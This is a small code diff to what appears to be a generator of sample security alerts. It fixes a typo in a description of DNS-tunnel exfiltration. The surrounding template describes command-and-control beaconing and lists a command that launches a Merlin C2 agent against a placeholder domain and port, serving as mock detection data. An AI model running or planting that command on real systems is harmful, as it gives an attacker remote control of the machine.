@@ -133,7 +133,7 @@ export const host = {
     titles: ['Command and control channel', 'DNS tunnel to {domain}'],
     descriptions: [
       '{process} calls {ip}:{port} every {count} seconds with a jitter below one percent, as implants do.',
-      '{host} resolveOptions {size} names under {domain} with random labels: data leaves through DNS.',
+      '{host} resolved {size} names under {domain} with random labels: data leaves through DNS.',
     ],
     commands: [
       './merlin-agent -url https://{domain}:{port}',
